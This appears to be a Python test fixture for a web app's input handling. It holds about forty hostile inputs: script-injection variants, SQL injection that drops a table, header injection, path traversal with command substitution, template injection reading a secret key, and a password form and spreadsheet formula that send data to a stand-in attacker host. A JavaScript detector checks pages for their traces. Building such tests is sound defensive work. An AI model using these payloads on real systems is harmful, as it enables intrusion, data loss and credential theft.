"""Forty texts that somebody might write to do harm. Where one got through, it would leave a mark that tests look for.

Each that makes nodes of a page gives them the attribute `data-hostile`; each that runs sets `window.hostile` or opens a
dialog. `HARM` says in a page's own words whether one did.
"""

# ruff: noqa: RUF001 - letters that look like others are meant

_RTL, _ISOLATE, _ZERO_WIDTH, _BYTE_ORDER = "\u202e", "\u2066", "\u200b", "\ufeff"

PAYLOADS: dict[str, str] = {
    "script": "<script data-hostile>window.hostile=1;alert(1)</script>",
    "script in another case": "<ScRiPt data-hostile>alert(1)</sCrIpT >",
    "script that closes what is around it": '"></textarea></select></title><script data-hostile>alert(1)</script>',
    "script inside a script": "<scr<script>ipt data-hostile>alert(1)</scr</script>ipt>",
    "end of a script": "</script><img data-hostile src=x onerror=alert(1)>",
    "end of a JSON script": '"}]</script><svg data-hostile onload=alert(1)>',
    "picture that fails": "<img data-hostile src=x onerror=alert(1)>",
    "picture without quotes": "<img data-hostile/src=`x`onerror=alert(1)//",
    "handler of an attribute": '" data-hostile onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "handler with apostrophes": "' data-hostile autofocus onfocus='alert(1)' x='",
    "handler of the body": "<body data-hostile onload=alert(1)>",
    "details that open": "<details data-hostile open ontoggle=alert(1)>open</details>",
    "svg": "<svg data-hostile><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg with a foreign object": "<svg data-hostile><foreignObject><iframe src=javascript:alert(1)></foreignObject>",
    "math": "<math data-hostile><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe data-hostile srcdoc="<script>parent.hostile=1</script>"></iframe>',
    "object": '<object data-hostile data="data:text/html,<script>alert(1)</script>"></object>',
    "base": "<base data-hostile href=//hostile.example/>",
    "refresh": '<meta data-hostile http-equiv=refresh content="0;url=//hostile.example">',
    "form": "<form data-hostile action=//hostile.example><input name=password><button>Sign in</button></form>",
    "link that runs": '<a data-hostile href="javascript:alert(1)">press</a>',
    "link that runs, in disguise": '<a data-hostile href="java&#x09;script&colon;alert(1)">press</a>',
    "address that runs": "javascript:alert(1)//https://example.org/",
    "address of data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "style": "<style data-hostile>*{display:none}</style><p style='position:fixed;inset:0'>over all</p>",
    "style of another host": "<link data-hostile rel=stylesheet href=//hostile.example/x.css>",
    "comment": "<!--><img data-hostile src=x onerror=alert(1)>-->",
    "section of XML": "<![CDATA[<img data-hostile src=x onerror=alert(1)>]]>",
    "entities": "&lt;img data-hostile src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "entities twice": "&amp;lt;script data-hostile&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "other forms of brackets": "＜script data-hostile＞alert(1)＜/script＞ ‹img onerror=alert(1)› +ADw-script+AD4-",
    "template": "{{ 7|add:7 }}{% load log %}{% debug %}{{ settings.SECRET_KEY }}${7*7}<%= 7 %>%(x)s{0.__class__}",
    "right to left": f"{_RTL}gpj.exe{_ISOLATE}<b data-hostile>" + "\u2067" * 20,
    "nothing to see": f"{_ZERO_WIDTH}{_BYTE_ORDER}\u00ad\u2060\u180e\u3164" * 8,
    "long word": "W" * 1900,
    "letters that look alike": "аdmin@ехample.org Οpen Μuseums ⓐⓓⓜⓘⓝ ＡＤＭＩＮ ﷽ Z" + "\u0335\u0336\u0337" * 40,
    "database": "x'; DROP TABLE people_user; -- \" OR 1=1 /* \\'; SELECT pg_sleep(9) %' %s ?",
    "header": "x\r\nBcc: somebody@hostile.example\r\nSet-Cookie: hostile=1\r\n\r\n<b data-hostile>",
    "formula of a table": '=HYPERLINK("http://hostile.example?"&A1,"press")',
    "path": "../../../../etc/passwd%00.html\\..\\..\\ ;id|id`id`$(id)&&id",
}

# Signs that cannot be stored, or that nobody can type.
CONTROLS: dict[str, str] = {
    "null": "before\x00after",
    "controls": "before\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85after",
    "half a character": "before\ud800after",
}

HARM = r"""() => {
  const address = /^(href|src|action|formaction|data|xlink:href)$/;
  const bad = (name, value) =>
    (/^on/.test(name) && /alert|hostile/.test(value)) ||
    (address.test(name) && /^\W*(javascript|data:text)|^(https?:)?\/\/hostile/i.test(value));
  const ours = (script) => script.src || script.type.includes("json") || !/hostile|alert\(1\)/.test(script.textContent);
  const found = [
    ...document.querySelectorAll("[data-hostile], base, object, embed, meta[http-equiv=refresh]"),
    ...document.querySelectorAll("iframe:not(.w-preview__iframe)"),
    ...[...document.querySelectorAll("*")].filter((it) => [...it.attributes].some(({name, value}) => bad(name, value))),
    ...[...document.links].filter((link) => link.protocol === "javascript:"),
    ...[...document.scripts].filter((script) => !ours(script)),
  ];
  const harm = [...new Set(found)].map((element) => element.outerHTML.slice(0, 160));
  return window.hostile ? [...harm, "something ran"] : harm;
}"""
